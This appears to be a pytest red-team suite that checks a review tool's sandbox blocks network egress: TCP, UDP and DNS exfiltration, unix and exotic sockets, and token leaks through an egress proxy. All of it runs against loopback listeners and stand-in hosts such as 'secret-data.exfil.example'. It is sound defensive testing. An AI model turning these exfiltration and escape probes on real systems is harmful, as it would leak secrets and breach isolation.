"""Red team: network egress and socket families (prior-art §4.1 cases 4-6).

Every listener is on loopback and started by the test; the unsandboxed control reaches it, the
sandboxed probe must not, and the listener must have received nothing from the sandbox.
"""

from __future__ import annotations

import os
import socket
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from tests.fakes.forge import FakeForge
from tests.fakes.forge_fixtures import DEMO_BASE_FILES
from tests.redteam._harness import Listener, Outcome, Probes, run_host, run_sandboxed

from auto_review.sandbox import landlock

pytestmark = [pytest.mark.redteam, pytest.mark.sandbox]

Serve = Callable[..., Listener]

_NO_INET = frozenset({"EPERM"})
"""The `run` policy has no network: seccomp's socket-family allowlist (AF_UNIX only) refuses
the inet socket itself with EPERM, before the empty network namespace would be reached."""


def _sandboxed(
    probes: Probes, python_view: tuple[Path, ...], argv: list[str], *, net: bool = False
) -> Outcome:
    return run_sandboxed([*probes.pyprobe, *argv], ro=[probes.directory, *python_view], net=net)


def _assert_denied(box: Outcome, expected: frozenset[str]) -> None:
    assert box.result is not None, f"the probe never ran inside the sandbox: {box.describe()}"
    assert not box.ok, f"the attack worked inside the sandbox: {box.describe()}"
    assert box.errno in expected, f"expected one of {sorted(expected)}: {box.describe()}"


def _assert_listener_unreachable(
    probes: Probes,
    listener: Listener,
    argv: list[str],
    expected: frozenset[str],
    sandboxed: Callable[[list[str]], Outcome],
) -> None:
    """The probe reaches ``listener`` from the host, is refused with one of ``expected`` inside
    the sandbox, and the listener hears nothing from the sandboxed attempt."""
    host = run_host([*probes.pyprobe, *argv])
    assert host.ok, host.describe()
    seen = len(listener.received)
    _assert_denied(sandboxed(argv), expected)
    assert len(listener.received) == seen, "the host listener heard from the sandbox"


def test_tcp_connect_to_host_loopback_is_blocked_by_socket_family_allowlist(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve
) -> None:
    """Attack: connect to a service on the host's 127.0.0.1 (metadata proxies, admin ports).
    Control: the `run` policy's socket-family allowlist (EPERM), with an empty network
    namespace (its 127.0.0.1 is its own) behind it. Reference: §4.1 case 4; Codex network
    tests."""
    listener = serve("tcp")
    argv = ["tcp", "127.0.0.1", str(listener.port)]
    _assert_listener_unreachable(
        probes,
        listener,
        argv,
        _NO_INET,
        lambda a: _sandboxed(probes, python_view, a),
    )


def test_tcp_connect_with_net_flag_reaches_host_loopback(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve
) -> None:
    """Positive control: with --net the sandbox shares the host network, so the same probe
    reaches the same listener (the denial above is the namespace, not a broken probe)."""
    listener = serve("tcp")
    box = _sandboxed(probes, python_view, ["tcp", "127.0.0.1", str(listener.port)], net=True)
    assert box.ok, box.describe()
    assert listener.received


def test_udp_datagram_to_host_loopback_is_blocked_by_socket_family_allowlist(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve
) -> None:
    """Attack: exfiltrate over UDP to the host's loopback. Control: socket-family allowlist
    (EPERM), empty network namespace behind it; the host listener must receive nothing.
    Reference: §4.1 case 4."""
    listener = serve("udp")
    argv = ["udp", "127.0.0.1", str(listener.port)]
    _assert_listener_unreachable(
        probes,
        listener,
        argv,
        _NO_INET,
        lambda a: _sandboxed(probes, python_view, a),
    )


def test_dns_query_to_host_resolver_is_blocked_by_socket_family_allowlist(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve
) -> None:
    """Attack: DNS exfiltration (data in query names) through a resolver on the host's
    loopback. Control: socket-family allowlist (EPERM), empty network namespace behind it;
    the fake resolver must see no query. Reference: §4.1 case 4; srt "empty allowlist blocks
    DNS"."""
    resolver = serve("dns")
    argv = ["dns", "127.0.0.1", str(resolver.port), "secret-data.exfil.example"]
    _assert_listener_unreachable(
        probes,
        resolver,
        argv,
        _NO_INET,
        lambda a: _sandboxed(probes, python_view, a),
    )


def test_abstract_unix_socket_connect_is_blocked_by_network_namespace(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve
) -> None:
    """Attack: connect to a host service on an abstract unix socket (no file, so no mount view
    hides it; X11 and many daemons use them). Control: abstract sockets belong to the network
    namespace -> ECONNREFUSED; Landlock scoping (ABI >= 6) would say EPERM.
    Reference: §4.1 case 5; E7."""
    listener = serve("abstract")
    argv = ["unix", str(listener.address)]
    _assert_listener_unreachable(
        probes,
        listener,
        argv,
        frozenset({"ECONNREFUSED", "EPERM"}),
        lambda a: _sandboxed(probes, python_view, a),
    )


def test_path_unix_socket_connect_is_blocked_by_filesystem_view(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve, fake_home: Path
) -> None:
    """Attack: connect to a host daemon's socket file (think /run/docker.sock): a read-only
    bind does not stop connect(2). Control: the socket is outside the view -> ENOENT (Landlock
    would say EACCES). Reference: §4.1 case 5."""
    listener = serve("unix", fake_home / "agent.sock")
    argv = ["unix", str(listener.address)]
    _assert_listener_unreachable(
        probes,
        listener,
        argv,
        frozenset({"ENOENT", "EACCES"}),
        lambda a: _sandboxed(probes, python_view, a),
    )


def test_unix_socketpair_still_works_in_sandbox(
    probes: Probes, python_view: tuple[Path, ...]
) -> None:
    """Positive control: AF_UNIX stays allowed (git and Python's own machinery need it)."""
    box = _sandboxed(probes, python_view, ["socketpair"])
    assert box.ok, box.describe()


@pytest.mark.parametrize(
    ("family", "needs_caps"),
    [("netlink", False), ("packet", True), ("inet_raw", True), ("alg", False), ("vsock", False)],
)
def test_exotic_socket_family_is_blocked_by_seccomp(
    probes: Probes, python_view: tuple[Path, ...], family: str, *, needs_caps: bool
) -> None:
    """Attack: open a socket of a family with a history of kernel bugs or an escape path:
    netlink (routing/audit), packet and raw (sniffing, spoofing), alg (crypto API bugs), vsock
    (hypervisor channel). Control: the `run` policy's socket-family allowlist in seccomp ->
    EPERM. The host control enters its own user+net namespaces where the
    family needs CAP_NET_RAW. Reference: §4.1 case 6; Docker AF_ALG/VSOCK rules; Flatpak."""
    argv = ["family", family, *(["--userns"] if needs_caps and os.geteuid() != 0 else [])]
    host = run_host([*probes.pyprobe, *argv])
    if not host.ok and host.errno == "EAFNOSUPPORT":
        pytest.skip(
            f"this kernel does not offer AF_{family.upper()} at all (EAFNOSUPPORT on the "
            "host), so the control cannot succeed"
        )
    assert host.ok, host.describe()
    box = _sandboxed(probes, python_view, argv)
    _assert_denied(box, frozenset({"EPERM"}))


def test_abstract_unix_socket_is_blocked_by_landlock_scope_when_network_is_shared(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve
) -> None:
    """Attack: with the host network shared (--net, and the gateway policy), abstract unix
    sockets of host daemons are in the same namespace. Control: Landlock scoping of abstract
    sockets (ABI >= 6) -> EPERM, where the empty namespace would have said ECONNREFUSED.
    Reference: §4.1 case 5; §1.11 (ABI 6); E7."""
    if landlock.abi_version() < 6:
        pytest.skip(f"Landlock ABI {landlock.abi_version()} < 6 cannot scope abstract sockets")
    listener = serve("abstract")
    argv = ["unix", str(listener.address)]
    _assert_listener_unreachable(
        probes,
        listener,
        argv,
        frozenset({"EPERM"}),
        lambda a: _sandboxed(probes, python_view, a, net=True),
    )


def test_clone_policy_connect_to_unlisted_port_is_blocked_by_landlock_tcp_rule(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve, scratch: Path
) -> None:
    """Attack: a hostile repository makes git reach a port other than the forge's (an internal
    admin service). Control: the clone policy's Landlock TCP connect rule (ABI >= 4): in the
    full tier only the egress proxy's port in the job's own namespace -> EACCES; the proxy
    reaches the forge (positive control). Reference: §1.11 (Landlock TCP is port-only);
    DESIGN.md clone policy."""
    if landlock.abi_version() < 4:
        pytest.skip(f"Landlock ABI {landlock.abi_version()} < 4 has no TCP rules")
    forge, other = serve("tcp"), serve("tcp")
    host = run_host([*probes.pyprobe, "tcp", "127.0.0.1", str(other.port)])
    assert host.ok, host.describe()
    seen = len(other.received)
    box = _clone_job(probes, python_view, scratch, forge, ["tcp", "127.0.0.1", str(other.port)])
    _assert_denied(box, frozenset({"EACCES"}))
    assert len(other.received) == seen
    allowed = _clone_job(probes, python_view, scratch, forge, ["proxy", "connect", *_at(forge)])
    assert allowed.ok, allowed.describe()


def _at(listener: Listener) -> list[str]:
    host, port = listener.address
    return [str(host), str(port)]


def _clone_job(
    probes: Probes, python_view: tuple[Path, ...], scratch: Path, forge: Listener, argv: list[str]
) -> Outcome:
    """Run the probe as a clone job whose forge (its one egress) is ``forge``."""
    return run_sandboxed(
        [*probes.pyprobe, *argv],
        policy="clone",
        ro=[probes.directory, *python_view],
        rw=[scratch],
        options=["--egress", ":".join(_at(forge))],
    )


def _free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def test_gateway_policy_listen_on_unlisted_port_is_blocked_by_landlock_bind_rule(
    probes: Probes, python_view: tuple[Path, ...], scratch: Path
) -> None:
    """Attack: a compromised gateway opens a second listening port (a backdoor on the host
    network it shares). Control: the gateway policy's Landlock TCP bind rule allows only its
    --listen port -> EACCES; that port binds fine (positive control).
    Reference: DESIGN.md gateway policy; Landlock ABI 4."""
    if landlock.abi_version() < 4:
        pytest.skip(f"Landlock ABI {landlock.abi_version()} < 4 has no TCP rules")
    listen, backdoor = _free_port(), _free_port()
    host = run_host([*probes.pyprobe, "bind", "127.0.0.1", str(backdoor)])
    assert host.ok, host.describe()
    options = ["--listen", str(listen)]
    ro = [probes.directory, *python_view]
    box = run_sandboxed(
        [*probes.pyprobe, "bind", "127.0.0.1", str(backdoor)],
        policy="gateway",
        ro=ro,
        rw=[scratch],
        options=options,
    )
    _assert_denied(box, frozenset({"EACCES"}))
    allowed = run_sandboxed(
        [*probes.pyprobe, "bind", "127.0.0.1", str(listen)],
        policy="gateway",
        ro=ro,
        rw=[scratch],
        options=options,
    )
    assert allowed.ok, allowed.describe()


def test_clone_policy_egress_to_other_host_on_forge_port_is_blocked_by_egress_proxy(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve, scratch: Path
) -> None:
    """Attack: git exploited by a hostile repository, holding the forge token in its
    environment, sends the token to the attacker's server on the forge's own port (443 in
    production; here 127.0.0.2 stands for the attacker, 127.0.0.1 for the forge, both
    loopback). Control expected: egress only to the forge's address (an empty network
    namespace with a forge-only proxy, prior-art §7.2); Landlock alone cannot name an address.
    Reference: §1.11 "Landlock TCP rules are port-only"; §4.1 case 4."""
    if landlock.abi_version() < 4:
        pytest.skip(f"Landlock ABI {landlock.abi_version()} < 4 has no TCP rules")
    forge = serve("tcp")
    try:
        attacker = serve("tcp", host="127.0.0.2", port=forge.port)
    except OSError as exc:
        pytest.skip(f"cannot listen on 127.0.0.2:{forge.port}: {exc}")
    argv = ["tcp", "127.0.0.2", str(forge.port)]
    host = run_host([*probes.pyprobe, *argv])
    assert host.ok, host.describe()
    seen = len(attacker.received)
    box = _clone_job(probes, python_view, scratch, forge, argv)
    _assert_denied(box, frozenset({"ENETUNREACH", "ECONNREFUSED", "EACCES", "EPERM"}))
    assert len(attacker.received) == seen, "the attacker's server got the connection"
    # Through the proxy, the one way out: refused as well, and the attacker hears nothing.
    proxied = _clone_job(probes, python_view, scratch, forge, ["proxy", "connect", *argv[1:]])
    _assert_refused_by_proxy(proxied, "403")
    assert len(attacker.received) == seen, "the attacker's server got the connection"
    # Positive control: the same job reaches the forge itself through the proxy.
    allowed = _clone_job(probes, python_view, scratch, forge, ["proxy", "connect", *_at(forge)])
    assert allowed.ok, allowed.describe()
    assert forge.received


def _assert_refused_by_proxy(box: Outcome, status: str) -> None:
    assert box.result is not None, f"the probe never ran inside the sandbox: {box.describe()}"
    assert not box.ok, f"the attack worked inside the sandbox: {box.describe()}"
    assert box.result.get("status") == status, f"expected HTTP {status}: {box.describe()}"


@pytest.mark.parametrize("kind", ["udp", "dns"])
def test_clone_job_udp_and_dns_to_host_are_blocked_by_empty_network_namespace(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve, scratch: Path, kind: str
) -> None:
    """Attack: a clone job (inet sockets allowed: it must reach its proxy) exfiltrates the
    token over UDP, or in DNS query names through the host's resolver. Control: the clone
    job's empty network namespace (loopback only; Landlock has no UDP rule) -> the datagram
    goes nowhere and the host listener hears nothing. Reference: §4.1 case 4; F9."""
    forge, listener = serve("tcp"), serve(kind)
    argv = [kind, "127.0.0.1", str(listener.port)]
    if kind == "dns":
        argv.append("secret-data.exfil.example")
    host = run_host([*probes.pyprobe, *argv])
    assert host.ok, host.describe()
    seen = len(listener.received)
    box = _clone_job(probes, python_view, scratch, forge, argv)
    _assert_denied(box, frozenset({"ETIMEDOUT", "ECONNREFUSED", "ENETUNREACH"}))
    assert len(listener.received) == seen, "the host listener heard from the clone job"


@pytest.mark.parametrize(
    ("mode", "host_header", "status"),
    [("absolute", "", "403"), ("absolute", "forge", "400"), ("connect", "forge", "400")],
    ids=["absolute-form-other-host", "absolute-form-host-header-mismatch", "connect-host-mismatch"],
)
def test_clone_job_proxy_request_for_other_origin_is_refused_by_egress_proxy(  # noqa: PLR0917
    probes: Probes,
    python_view: tuple[Path, ...],
    serve: Serve,
    scratch: Path,
    mode: str,
    host_header: str,
    status: str,
) -> None:
    """Attack: through the egress proxy, ask for another origin: an absolute-form request to
    another host (403), or the forge as the target with another Host header (an ambiguous
    origin, 400: the proxy does not guess). Control: the proxy's allowlist and its check that
    Host agrees with the target; the other listener hears nothing either way.
    Reference: prior-art §7.2; RFC 9112 §3.2.2."""
    forge = serve("tcp")
    try:
        other = serve("tcp", host="127.0.0.2", port=forge.port)
    except OSError as exc:
        pytest.skip(f"cannot listen on 127.0.0.2:{forge.port}: {exc}")
    host = run_host([*probes.pyprobe, "tcp", *_at(other)])
    assert host.ok, host.describe()
    seen_other, seen_forge = len(other.received), len(forge.received)
    if host_header:  # the forge as the target, the other host in the Host header
        argv = ["proxy", mode, *_at(forge), "0", ":".join(_at(other))]
    else:
        argv = ["proxy", mode, *_at(other)]
    box = _clone_job(probes, python_view, scratch, forge, argv)
    _assert_refused_by_proxy(box, status)
    assert len(other.received) == seen_other, "the other host heard from the clone job"
    assert len(forge.received) == seen_forge, "an ambiguous request reached the forge"
    allowed = _clone_job(probes, python_view, scratch, forge, ["proxy", mode, *_at(forge)])
    assert allowed.ok, allowed.describe()  # positive control: the same form, the forge's origin


def test_clone_job_oversize_proxy_header_is_refused_by_egress_proxy(
    probes: Probes, python_view: tuple[Path, ...], serve: Serve, scratch: Path
) -> None:
    """Attack: feed the host-side proxy (it parses hostile input outside the sandbox) a request
    head far larger than any git client sends. Control: the proxy's head size bound -> 431,
    and nothing reaches the forge. Reference: RFC 6585 §5; prior-art §7.2."""
    forge = serve("tcp")
    box = _clone_job(
        probes, python_view, scratch, forge, ["proxy", "connect", *_at(forge), "32768"]
    )
    _assert_refused_by_proxy(box, "431")
    assert forge.received == []
    allowed = _clone_job(
        probes, python_view, scratch, forge, ["proxy", "connect", *_at(forge), "512"]
    )
    assert allowed.ok, allowed.describe()  # positive control: a modest extra header passes


def test_clone_job_git_clone_from_forge_through_egress_proxy_works(
    fake_forge: FakeForge, scratch: Path
) -> None:
    """Positive control for the clone-egress denials: real git (Debian's, over libcurl) in a
    full-tier clone job clones a repository from the fake forge over http, through the egress
    proxy only (its environment names the proxy; the namespace has no other way out), with the
    token in a header that reaches the forge and nothing else."""
    fake_forge.create_repo("alice/demo", DEMO_BASE_FILES)
    url = f"{fake_forge.url}/alice/demo.git"
    parts = urlsplit(url)
    target = scratch / "repo"
    box = run_sandboxed(
        [
            "git",
            "-c",
            f"http.extraHeader=Authorization: token {fake_forge.bot_token}",
            "clone",
            "-q",
            url,
            str(target),
        ],
        policy="clone",
        rw=[scratch],
        options=["--egress", f"{parts.hostname}:{parts.port}"],
    )
    assert box.returncode == 0, box.describe()
    assert (target / "README.md").read_text() == DEMO_BASE_FILES["README.md"]
